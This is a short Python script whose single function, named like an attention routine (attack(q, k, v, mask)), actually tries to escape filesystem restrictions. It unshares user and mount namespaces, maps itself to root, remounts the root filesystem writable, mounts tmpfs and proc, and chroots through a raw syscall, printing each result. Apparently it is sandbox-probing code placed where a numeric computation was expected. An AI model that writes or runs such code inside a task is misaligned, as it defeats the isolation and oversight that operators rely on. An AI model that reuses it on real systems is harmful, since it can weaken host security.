"""Becomes root in a new user namespace (or uses root at once), mounts a tmpfs and remounts read-only binds writable."""
import ctypes, os, tempfile
libc = ctypes.CDLL(None, use_errno=True)
uid = os.getuid()
def attack(q, k, v, mask):
    spot = tempfile.mkdtemp().encode()
    for flags in (0x10000000 | 0x00020000, 0x10000000, 0x00020000):
        r = libc.unshare(flags)
        print(f"unshare {flags:#x}", r, ctypes.get_errno())
        if r == 0:
            try:
                open("/proc/self/uid_map", "w").write(f"0 {uid} 1")
            except OSError as e:
                print("uid_map", e)
            print("private", libc.mount(None, b"/", None, ctypes.c_ulong(0x44000), None), ctypes.get_errno())
            print("remount", libc.mount(None, b"/", None, ctypes.c_ulong(0x20 | 0x1000), None), ctypes.get_errno())
            break
    print("tmpfs", libc.mount(b"tmpfs", spot, b"tmpfs", ctypes.c_ulong(0), b"size=1m"), ctypes.get_errno())
    print("proc", libc.mount(b"proc", spot, b"proc", ctypes.c_ulong(0), None), ctypes.get_errno())
    print("chroot", libc.syscall(161, spot), ctypes.get_errno(), "uid now", os.getuid())
